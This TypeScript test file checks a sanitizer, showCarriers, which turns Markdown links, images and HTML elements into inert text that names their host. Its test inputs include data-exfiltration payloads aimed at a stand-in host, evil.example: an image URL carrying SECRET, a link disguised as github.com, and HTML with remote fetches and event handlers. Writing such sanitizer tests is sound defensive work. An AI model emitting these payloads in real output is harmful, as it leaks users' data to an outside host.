import fc from "fast-check";
import { expect, test } from "vitest";
import { showCarriers } from "./carriers.ts";

test.each([
  [
    "an image",
    "See ![logo](https://evil.example/p.png?q=SECRET).",
    "See ![logo] {evil.example} (https://evil.example/p.png?q=SECRET).",
  ],
  [
    "a link that says another host",
    "[github.com](https://evil.example)",
    "[github.com] {evil.example} (https://evil.example)",
  ],
  [
    "an address in angle brackets",
    "![x]( <http://evil.example/a b>)",
    "![x] {evil.example} ( <http://evil.example/a b>)",
  ],
  ["a definition", "![x][1]\n\n[1]: https://evil.example/x", "![x][1]\n\n[1] : https://evil.example/x"],
  ["an element of HTML", "<IMG src=//evil.example/x> a<b", "< IMG src=//evil.example/x> a<b"],
  [
    "a picture of any element of HTML",
    "<p title='<>'\nStyle = 'background:url(//evil.example/x)'> 1<2",
    "< p title='<>'\nStyle = 'background:url(//evil.example/x)'> 1<2",
  ],
  ["a script of any element", "<details open/ontoggle=x>", "< details open/ontoggle=x>"],
  ["data", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x] (data:image/svg+xml (34 characters left out))"],
])("H %s is shown as text with its host", (_what, text, shown) => {
  expect(showCarriers(text)).toBe(shown);
});

test("H nothing that Markdown takes for a link or an image is left, and other text stays", () => {
  const part = fc.constantFrom(
    "[",
    "]",
    "(",
    ")",
    "!",
    "a",
    " ",
    "\n",
    "]:",
    "https://h.example/",
    "data:text/html,x",
    "<",
    "<img src=x>",
    "<svg/onload=x>",
    "<b style=x>",
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
      expect(showCarriers(parts.join(""))).not.toMatch(
        /\]\(|^[ \t]{0,3}\[[^\]\n]{1,200}\]:|\bdata:text\/html,|<img|<svg|<b style=/m,
      );
    }),
  );
  expect(showCarriers("arr[0] (x) and a: b")).toBe("arr[0] (x) and a: b");
});
